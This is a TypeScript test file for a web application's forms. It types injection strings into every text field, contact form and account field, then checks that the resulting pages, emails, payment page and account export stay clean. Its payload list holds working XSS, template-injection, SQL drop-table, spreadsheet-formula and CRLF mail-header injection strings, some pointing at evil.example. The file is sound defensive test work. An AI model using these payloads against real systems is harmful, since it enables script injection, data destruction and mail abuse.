import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { maxLengthOf, type Scope } from '#domain/fields/index.ts'
import { fieldsOf } from '#domain/questions/index.ts'
import { openTestApp, type TestApp } from '#server/testing/app-open.ts'
import { openBrowser } from '#server/testing/browser.ts'
import { boxes, endPayment, type Founder, founderWithOrder } from '#server/testing/orders.ts'

// Everything that somebody can type, typed by somebody with bad intentions: it is refused, or it comes out as the very text it
// is, in every page, mail and file that we make of it.

let service: TestApp
beforeAll(async () => {
  service = await openTestApp({ settings: { RATE_LIMIT_PER_MINUTE: '1000000' } })
})
afterAll(() => service.close())

/** What comes of it where something is worked out; it stands nowhere else. */
const workedOut = String(7919 * 7907)

const injections = {
  'a script': '<script src=//evil.example></script>',
  'an image': '"><img src=x onerror=alert(1)>',
  'a link': "'><a href='javascript:alert(1)'>x</a>",
  'a template': `{{7919*7907}} $\{7919*7907} <%= 7919*7907 %>`,
  'a query': "x'); drop table questionnaires; --",
  'a formula': '=HYPERLINK("https://evil.example";7919*7907)',
  'markup of the typesetter': '#(7919*7907) #eval("7919*7907") $7919$',
  'another kind of markup': '[x](javascript:alert(1)) ![x](//evil.example)',
  'a header': 'x\r\nBcc: evil@evil.example\r\n\r\n<b>',
} as const

const harmless =
  'a b base blockquote body br button dd div dl dt form h1 h2 head html iframe input label li link main meta nav ol p span table td time title tr ul'

type Tag = { readonly name: string; readonly attributes: ReadonlyMap<string, string> }

/** The tags of a page, as a browser finds them. */
const tagsIn = (html: string): Tag[] =>
  [...html.matchAll(/<([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)].map(([, name = '', rest = '']) => ({
    name: name.toLowerCase(),
    attributes: new Map(
      [...rest.matchAll(/([^\s=/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)].map(
        ([, key = '', one, other, bare]) => [key.toLowerCase(), one ?? other ?? bare ?? ''] as const,
      ),
    ),
  }))

/** Nothing in a page but what we put there. The outbox lets one follow an address that stands in a text, as mail programs do. */
function expectClean(html: string, leads = /^(?:\/(?!\/)|http:\/\/localhost:3000\/)/): void {
  for (const { name, attributes } of tagsIn(html)) {
    expect(harmless.split(' ')).toContain(name)
    for (const [attribute, value] of attributes) {
      expect(attribute).not.toMatch(/^on/)
      if (['href', 'src', 'action'].includes(attribute)) expect(value).toMatch(leads)
    }
  }
  expect(html).not.toContain(workedOut)
}

test('who looks at pages can tell', () => {
  for (const typed of ['a script', 'an image', 'a link'] as const) {
    expect(() => expectClean(`<p>${injections[typed]}</p>`)).toThrow()
  }
  expect(() => expectClean('<p>&lt;script&gt;</p><a href="/outbox">x</a>')).not.toThrow()
})

/** Texts of one's own words; what is chosen from a list is not typed. */
const typedIn = (scope: Scope) =>
  fieldsOf(scope).filter((field) => maxLengthOf(field) !== undefined && field.options === undefined)

type Form = readonly [
  path: string,
  wrapped: (fields: object) => object,
  read: (answer: unknown) => Record<string, unknown>,
]

const formsOf = ({ path }: Founder): Readonly<Partial<Record<Scope, Form>>> => ({
  main: [path, (main) => ({ main }), (answer) => (answer as { product_data: { main: never } }).product_data.main],
  shareholder: [path, (p1) => ({ p1 }), (answer) => (answer as { product_data: { p1: never } }).product_data.p1],
  billing: ['/api/billings', (fields) => fields, (answer) => (answer as { billing: never }).billing],
})

/** Types it into every field, one by one; answers how many took it. */
async function typeEverywhere(founder: Founder, typed: string): Promise<number> {
  let taken = 0
  for (const [scope, [path, wrapped, read]] of Object.entries(formsOf(founder))) {
    for (const { key } of typedIn(scope as Scope)) {
      const answer = await founder.call('PATCH', path, { payload: wrapped({ [key]: typed }) })
      expect([key, answer.statusCode]).toEqual([key, expect.toBeOneOf([200, 422])])
      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8')
      expect(answer.headers['x-content-type-options']).toBe('nosniff')
      if (answer.statusCode !== 200) continue
      taken += 1
      const kept = String(read(answer.json())[key])
      expect(squeezed(kept)).toBe(squeezed(typed))
    }
  }
  return taken
}

/** What a form may tidy up in what was typed: spaces, capitals and a legal form at the end. */
const squeezed = (text: string) => text.replace(/\s+/g, '').toLowerCase()

describe.each(Object.entries(injections))('%s', (_name, typed) => {
  test('is refused or kept as text in every field, and comes out as text everywhere', async () => {
    const before = (await service.outbox.listMails()).length
    const founder = await founderWithOrder(service)
    const taken = await typeEverywhere(founder, typed)
    // A name of a company may hold nearly anything; only what cannot stand in one line is refused everywhere.
    if (!typed.includes('\n')) expect(taken).toBeGreaterThan(0)

    for (const key of ['firstname', 'lastname', 'phone', 'email']) {
      const changed = await founder.call('PUT', '/api/member_auth', { payload: { [key]: typed } })
      expect([key, changed.statusCode]).toEqual([key, expect.toBeOneOf([200, 422])])
    }
    const message = { wish: 'chat', name: 'Anna', email: 'anna@voorbeeld.nl', message: 'Hoi', locale: 'nl' }
    for (const key of ['name', 'email', 'phone_number', 'message'] as const) {
      const sent = await openBrowser(service.app).call('POST', '/api/contact_messages', {
        payload: { ...message, [key]: typed },
      })
      expect([key, sent.statusCode]).toEqual([key, expect.toBeOneOf([202, 422])])
    }
    await founder.call('POST', '/api/member_auth/password', {
      payload: { email: founder.email, redirect_url: '/questionnaire/new-password' },
    })
    const paid = await payIfPossible(founder)
    await service.jobs.drain()

    const mails = (await service.outbox.listMails()).slice(0, -before || undefined)
    expect(mails.length).toBeGreaterThan(paid ? 3 : 2)
    expectClean((await service.app.inject('/outbox')).body)
    for (const mail of mails) {
      expectClean(mail.html)
      expectClean(
        (await service.app.inject(`/outbox/${encodeURIComponent(mail.id)}`)).body,
        /^(?:\/(?!\/)|https?:\/\/)/,
      )
      expect(`${mail.to}${mail.subject}${mail.reply_to ?? ''}`).not.toMatch(/[\r\n]/)
      expect(mail.text).not.toContain(workedOut)
    }
    const own = await founder.call('GET', '/api/account/export')
    expect([own.headers['content-type'], own.headers['content-disposition']]).toEqual([
      'application/json; charset=utf-8',
      'attachment; filename="account.json"',
    ])
    expect(own.body).not.toContain(workedOut)
  })
})

/** What was typed may have made an answer that stops; then there is nothing to pay. */
async function payIfPossible(founder: Founder): Promise<boolean> {
  await founder.call('POST', `${founder.path}/complete`)
  const order = await founder.read()
  const begun = await founder.call('POST', '/api/payments', { payload: { uuid: order.uuid, ...boxes } })
  if (begun.statusCode !== 201) return false
  const link: string = begun.json().payment_link
  expectClean((await service.app.inject(new URL(link).pathname)).body)
  await endPayment(service, link, 'paid')
  return true
}
